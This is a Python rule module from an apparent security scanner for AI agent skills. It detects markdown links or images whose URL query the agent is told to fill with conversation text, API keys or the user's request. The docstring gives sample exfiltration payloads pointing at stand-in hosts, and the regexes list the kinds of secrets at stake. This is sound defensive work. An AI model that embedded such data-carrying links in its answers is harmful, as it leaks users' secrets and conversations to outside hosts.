"""Data the agent is told to put into a link or image URL of its own answer (E031).

A markdown image is fetched as soon as the reply renders, and a link is followed (or unfurled) with its query:
either carries whatever the agent was told to fill in. E021 catches a slot *named* in the URL and defined as
secrets elsewhere; this rule reads the slot's own words, the placeholder the agent fills in:
``![](https://cdn.example/p.png?d={summary and any API keys seen in the transcript})``,
``[](https://t.example/p?q=<the user's request, URL-encoded>)``.

- E031: a markdown link or image in SKILL.md or a reference whose URL query is a placeholder describing the
  conversation, the session's secrets or personal data; or describing the user's own request/message when the
  link is hidden (empty text) or the skill says not to explain it. A search or share link that carries the
  user's query visibly ("[Results](https://duckduckgo.com/?q=<the user's query>)") is what the user asked for.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from skillyard.model import Severity
from skillyard.scan.analyzers.hosts import host_class, host_of, vendor_declared
from skillyard.scan.analyzers.view import SkillView
from skillyard.scan.rules.base import Family, Hit, Rule, snippet
from skillyard.scan.rules.covert_orders import order_context

# "[text](https://host/path?k=" then a described slot: "<...>" or "{...}" / "{{...}}" with at least one space
_LINK_SLOT = re.compile(
    r"(!?)\[([^\]\n]{0,80})\]\(\s*(https?://[^\s()<>{}]*[?&][\w.\[\]-]*=)\s*"
    r"(<[^<>\n]{0,160}\s[^<>\n]{0,160}>|\{\{?[^{}\n]{0,160}\s[^{}\n]{0,160}\}\}?)"
)
# what no answer's link should carry to anyone: the conversation, the session's secrets, personal data
_PRIVATE = re.compile(
    r"\b(?:conversation|transcript|chat(?:\s+history)?|message\s+history|system\s+prompt|session|(?:api\s+)?keys"
    r"|secrets?|tokens|credentials?|passwords?|env(?:ironment)?\s+(?:var\w*|values?)|\.env|cookies"
    r"|e-?mail\s+addresses|phone\s+numbers|personal\s+(?:data|details|information))\b",
    re.IGNORECASE,
)
# the user's own words: fine in a visible search/share link, a tracker in a hidden one
_USER_WORDS = re.compile(
    r"\b(?:(?:the\s+)?user['’]?s?['’]?\s+(?:request|prompt|question|query|message|input|words|text)s?"
    r"|what\s+the\s+user\s+(?:asked|typed|said|wrote)|(?:each|every|the)\s+(?:request|prompt|question))\b",
    re.IGNORECASE,
)
# a placeholder the user fills with their own key for the vendor's API ("<your API key>") is not harvesting
_OWN = re.compile(r"\byour\b|\bYOUR_", re.IGNORECASE)
_QUIET = re.compile(
    r"\b(?:never|don['’]t|do\s+not|without)\s+(?:explain|mention|show|tell|describ|reveal|point)\w*|\bsilently\b"
    r"|\bquietly\b|\binvisibl[ey]\b|\bhidden\b",
    re.IGNORECASE,
)


def _render_slots(view: SkillView) -> Iterator[Hit]:
    claim = f"{view.skill.name} {view.skill.description}"
    for tf in view.files:
        if tf.role not in ("skill_md", "reference") or "](http" not in tf.text:
            continue
        for n in tf.candidate_numbers(("](http",)):
            row = tf.rows[n - 1]
            m = _LINK_SLOT.search(row)
            if m is None:
                continue
            image, text, url, slot = m.groups()
            if host_class(url) in ("local", "trusted") or _OWN.search(slot):
                continue
            private = _PRIVATE.search(slot)
            if private is None:
                user = _USER_WORDS.search(slot)
                if user is None or vendor_declared(url, claim):
                    continue
                # the user's own words: only when the link is hidden or the agent must not explain it
                if not ((not image and not text.strip()) or _QUIET.search(row)):
                    continue
            what = "an image" if image else "a link"
            yield Hit(
                "E031",
                tf.path,
                n,
                f"{what} on {host_of(url)} whose URL the agent fills with {slot!r}: the answer carries it out",
                snippet(row, m.start(), m.end()),
                order_context(tf, n),
            )
            break


RULES = [
    Rule(
        "E031",
        "Private data placeholder in a link or image URL of the answer",
        Family.DATA_EXFILTRATION,
        Severity.HIGH,
        0.85,
        "A link or image the agent adds to its answer, whose URL query it fills with the conversation, the "
        "session's keys or personal data (or, in a hidden link, the user's own request), sends that data to the "
        "URL's host when the answer renders or the link is followed: a tracking pixel built by the agent.",
        "Links and images in answers must have fixed URLs; never put the conversation, the user's words or "
        "secrets into a URL.",
        _render_slots,
        mitre="T1048",
    ),
]
